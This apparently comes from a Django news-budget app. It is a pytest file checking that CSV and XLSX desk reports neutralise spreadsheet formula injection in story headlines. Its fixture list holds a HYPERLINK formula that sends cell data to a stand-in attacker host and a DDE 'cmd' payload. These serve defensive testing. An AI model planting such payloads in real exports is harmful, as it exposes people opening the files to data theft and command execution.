"""Formula-like headlines stay text in both formats: opening a report runs nothing."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import openpyxl
import pytest
from django.core.files.storage import storages

from newsbudget.desks.models import Desk
from newsbudget.reports.contents import STORY_COLUMNS
from newsbudget.reports.models import DeskReport
from newsbudget.reports.tests.conftest import START
from tests.factories import StoryFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "Tabs\tand\x07bells",
]


@pytest.fixture
def hostile_stories(desk: Desk) -> None:
    for headline in HOSTILE:
        StoryFactory(desk=desk, headline=headline, budget_date=START, bylines=[])


def stored(report: DeskReport) -> bytes:
    with storages["private"].open(report.file_name, "rb") as file:
        return file.read()


@pytest.mark.usefixtures("filesystem_storages", "hostile_stories")
def test_csv_cells_that_start_like_formulas_get_an_apostrophe(
    built: Callable[[str], DeskReport],
) -> None:
    rows = list(csv.reader(io.StringIO(stored(built("csv")).decode("utf-8-sig"), newline="")))
    headlines = {row[1] for row in rows if len(row) == len(STORY_COLUMNS)}
    assert "'" + HOSTILE[0] in headlines
    assert "'" + HOSTILE[1] in headlines
    assert "'" + HOSTILE[2] in headlines
    assert "'" + HOSTILE[3] in headlines
    assert HOSTILE[4] in headlines  # a tab inside is harmless; only a leading one is defused
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.usefixtures("filesystem_storages", "hostile_stories")
def test_xlsx_cells_hold_formula_lookalikes_as_text(built: Callable[[str], DeskReport]) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(stored(built("xlsx"))))
    cells = [row[1] for row in workbook["Stories"].iter_rows(min_row=2)]
    by_value = {cell.value: cell for cell in cells}
    for headline in HOSTILE[:4]:
        assert by_value[headline].data_type == "s"
    assert "Tabs\tandbells" in by_value  # the BEL character XML cannot hold is dropped
